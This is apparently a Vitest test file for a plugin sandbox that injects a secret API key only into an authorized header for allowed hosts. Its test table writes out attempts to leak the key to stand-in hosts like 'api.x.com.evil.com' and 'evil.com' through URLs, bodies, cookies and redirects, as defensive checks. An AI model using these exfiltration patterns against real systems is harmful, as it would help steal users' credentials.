import { describe, expect, test } from "vitest";

import { survived } from "./support/attack.ts";
import { network, SECRET } from "./support/network.ts";
import type { Left } from "./support/network.ts";

const everything = (left: readonly Left[]): string => decodeURIComponent(JSON.stringify(left)).replaceAll("+", " ");

describe("A secret that a plugin uses without seeing it goes into one header, to its hosts, and nowhere else.", () => {
  test("there it goes", async () => {
    const { left, options } = network();
    await survived(
      `const { apiKey } = meta.config;
       for (const [name, value] of [["authorization", "Bearer " + apiKey], ["AUTHORIZATION", apiKey]])
         await fetch("https://api.x.com/", { headers: { [name]: value } });
       return apiKey`,
      options,
    );
    expect(left.map(({ headers }) => headers["authorization"])).toEqual([`Bearer ${SECRET}`, `Bearer ${SECRET}`]);
  });

  test("the plugin has a text in its place", async () => {
    expect(await survived("return [meta.config.apiKey, JSON.stringify(meta.config)]", network().options)).toEqual([
      "{{secret:apiKey}}",
      expect.not.stringContaining(SECRET),
    ]);
  });

  test.each([
    ["another host", "'https://x.com/', { headers: { authorization: meta.config.apiKey } }"],
    ["a host that looks like it", "'https://api.x.com.evil.com/', { headers: { authorization: meta.config.apiKey } }"],
    ["a host before it", "'https://evil.api.x.com/', { headers: { authorization: meta.config.apiKey } }"],
    ["a name in front", "'https://api.x.com@evil.com/', { headers: { authorization: meta.config.apiKey } }"],
    ["no TLS", "'http://api.x.com/', { headers: { authorization: meta.config.apiKey } }"],
    ["another header", "'https://api.x.com/', { headers: { 'x-api-key': meta.config.apiKey } }"],
    ["a cookie", "'https://api.x.com/', { headers: { cookie: meta.config.apiKey } }"],
    ["the address", "'https://api.x.com/?key=' + meta.config.apiKey + '#' + meta.config.apiKey"],
    ["a name in the address", "'https://' + encodeURIComponent(meta.config.apiKey) + ':x@api.x.com/'"],
    ["the body", "'https://api.x.com/', { method: 'POST', body: meta.config.apiKey }"],
    ["parameters", "'https://api.x.com/', { method: 'POST', body: new URLSearchParams({ a: meta.config.apiKey }) }"],
    ["another form", "'https://api.x.com/', { headers: { authorization: 'Basic ' + meta.config.apiKey } }"],
    ["twice", "'https://api.x.com/', { headers: { authorization: meta.config.apiKey + meta.config.apiKey } }"],
    ["another key's", "'https://api.x.com/', { headers: { authorization: '{{secret:otherKey}}' } }"],
  ])("not so: %s", async (_what, request) => {
    const { left, options } = network();
    await survived(`await fetch(${request})`, options);
    expect(left).toHaveLength(1);
    expect(everything(left)).not.toContain(SECRET);
    expect(everything(left)).not.toContain(SECRET.replaceAll("+", " "));
  });

  test.each([
    ["another host", "https://evil.com/"],
    ["another port", "https://api.x.com:8443/"],
    ["no TLS", "http://api.x.com/"],
  ])("not after a redirect to %s, nor on the way back", async (_what, elsewhere) => {
    const { left, options } = network({
      answer: ({ url }) =>
        url === "https://api.x.com/1"
          ? new Response(null, { status: 307, headers: { location: elsewhere } })
          : url === elsewhere
            ? new Response(null, { status: 307, headers: { location: "https://api.x.com/3" } })
            : new Response(),
      // Not Authorization, which no redirect to another origin keeps anyway.
      fields: [
        {
          key: "apiKey",
          type: "string",
          secret: true,
          inject: { host: ["api.x.com"], header: "X-Api-Key", format: "{}" },
        },
      ],
    });
    await survived("await fetch('https://api.x.com/1', { headers: { 'x-api-key': meta.config.apiKey } })", options);
    expect(left.map(({ headers }) => headers["x-api-key"] === SECRET)).toEqual(
      elsewhere.startsWith("http:") ? [true, false, true] : [true, false, false],
    );
  });

  test("a redirect on the same host keeps it", async () => {
    const { left, options } = network({
      answer: ({ url }) =>
        url.endsWith("1") ? new Response(null, { status: 307, headers: { location: "/2" } }) : new Response(),
    });
    await survived("await fetch('https://api.x.com/1', { headers: { authorization: meta.config.apiKey } })", options);
    expect(left.map(({ headers }) => headers["authorization"])).toEqual([`Bearer ${SECRET}`, `Bearer ${SECRET}`]);
  });
});
